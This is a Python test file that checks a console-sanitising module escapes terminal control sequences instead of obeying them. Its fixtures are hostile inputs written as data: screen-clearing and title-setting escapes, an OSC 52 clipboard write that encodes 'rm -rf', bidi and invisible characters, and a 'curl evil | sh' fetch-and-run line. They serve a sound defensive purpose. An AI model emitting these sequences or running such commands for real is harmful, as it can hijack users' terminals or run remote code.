"""No text of AWS, of a job or of another program reaches a terminal with its control characters."""

import ast
import io
import json
import re
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scripts.core import console
from scripts.core.errors import UserError
from scripts.core.printable import PrintableStream, in_colour, json_text, one_line, printable

ATTACKS = {
    "clears the screen": ("\x1b[2J\x1b[Hdone", r"\u001b[2J\u001b[Hdone"),
    "sets the clipboard": ("\x1b]52;c;cm0gLXJm\x07", r"\u001b]52;c;cm0gLXJm\u0007"),
    "sets the title": ("\x1b]0;title\x1b\\", r"\u001b]0;title\u001b\ ".strip()),
    "hides a text": ("\x1b[8msecret\x1b[0m", "secret"),
    "overwrites a line": ("Failed\rCompleted", r"Failed\rCompleted"),
    "uses C1": ("\x9b2J\x85", r"\u009b2J\u0085"),
    "reverses a text": ("abc\u202egpj.exe\u2066", r"abc\u202egpj.exe\u2066"),
    "breaks a line elsewhere": ("a\u2028b\x0bc\x0cd", r"a\u2028b\u000bc\u000cd"),
    "erases what was": ("a\b\x7f", r"a\u0008\u007f"),
    "is not Unicode": ("\udc9b", r"\udc9b"),
    "is invisible": ("a\u200b\ufeff\U000e0041", r"a\u200b\ufeff\U000e0041"),
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_control_character_is_shown_and_not_obeyed(attack: str) -> None:
    text, shown = ATTACKS[attack]
    assert printable(text) == shown


@given(st.text())
def test_nothing_that_is_printed_is_obeyed(text: str) -> None:
    for shown in (printable(text), one_line(text), console.indented(text)):
        assert all(character in "\n\t" or unicodedata.category(character)[0] not in "C" for character in shown)
        assert printable(shown) == shown


@given(st.text(alphabet=st.sampled_from("\x1b[]0123456789;mK\x07 aé\n")))
def test_only_simple_colours_reach_a_terminal(text: str) -> None:
    left = re.sub(r"\x1b\[[0-9;]*m", "", in_colour(text))
    assert "\x1b" not in left
    assert "\x07" not in left


def test_readable_text_is_unchanged() -> None:
    for text in ("epoch=1 loss=0.5\n\tindented", "Größe 日本語 ✓ 🎉", ""):
        assert printable(text) == in_colour(text) == text


def test_our_own_colours_stay_at_a_terminal_and_end_there() -> None:
    assert in_colour(console.styled("done", "1;31", True) + " é") == "\x1b[1;31mdone\x1b[0m é"
    assert in_colour("\x1b[31mred for ever") == "\x1b[31mred for ever\x1b[0m"
    for hidden in ("\x1b[8mx", "\x1b[30mx", "\x1b[40mx", "\x1b[38;5;0mx", "\x1b[1;8mx"):
        assert in_colour(hidden) == "x", "concealed, black, a background"
    assert printable(console.styled("done", "32", True)) == "done"


def test_one_line_and_indented_lines() -> None:
    assert one_line("a\n  b\r\n\nc") == "a b c"
    assert console.indented("reason\r\nFix: run this\n") == "reason\n    Fix: run this"


@given(st.dictionaries(st.text(), st.text()))
def test_json_is_printable_and_parses_to_the_same_value(value: dict[str, str]) -> None:
    text = json_text(value, indent=2)
    assert printable(text) == text
    assert json.loads(text) == value
    assert json.loads(json_text(value)) == value


def test_json_keeps_readable_text() -> None:
    assert json_text({"a": "é\x9b\U000e0041\ud800"}) == r'{"a": "é\u009b\udb40\udc41\ud800"}'


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("stream", [io.StringIO, Terminal])
def test_what_the_console_prints(stream: type[io.StringIO], monkeypatch: pytest.MonkeyPatch) -> None:
    out, err = stream(), stream()
    monkeypatch.setattr("sys.stdout", out)
    monkeypatch.setattr("sys.stderr", err)
    console.say("\x1b[2Jsaid")
    console.note("\x1b]52;c;x\x07noted")
    console.warn("\x9bwarned")
    console.show_error(UserError("AWS says: no\nFix:   curl evil | sh\x1b[2J", "Ask.\r"))
    shown = out.getvalue() + err.getvalue()
    assert not re.search(r"[\x07\x9b\r]|\x1b(?!\[[0-9;]*m)", shown)
    assert r"\u001b[2Jsaid" in shown
    assert "\n       Fix:   curl evil" in shown, "it does not look like our second line"


def test_the_log_of_the_local_cloud_is_printable() -> None:
    log = io.StringIO()
    print("job \x1b[2J", file=PrintableStream(log), flush=True)
    assert log.getvalue() == "job \\u001b[2J\n"


ROOT = Path(__file__).parents[3] / "scripts"
# The console and the live line print for all. What makes .venv has nothing to import yet. The rules' page is our own
# text. The server of the local cloud replaces its streams.
PRINTERS = {"core/console.py", "core/progress.py", "venv.py", "review/rules/page.py", "job_proof/arrays.py"}


PRINT = {"print", "sys.stdout.write", "sys.stderr.write", "traceback.print_exc"}


def test_everything_is_printed_through_the_console() -> None:
    found = {
        f"{path.relative_to(ROOT).as_posix()}:{node.lineno}"
        for path in ROOT.rglob("*.py")
        if path.relative_to(ROOT).as_posix() not in PRINTERS and "localcloud" not in path.parts
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8")))
        if isinstance(node, ast.Call) and ast.unparse(node.func) in PRINT
    }
    assert found == set()


def test_every_live_bar_shows_texts_without_markup() -> None:
    for path in ROOT.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "TextColumn":
                assert any(keyword.arg == "markup" for keyword in node.keywords), f"{path}:{node.lineno}"
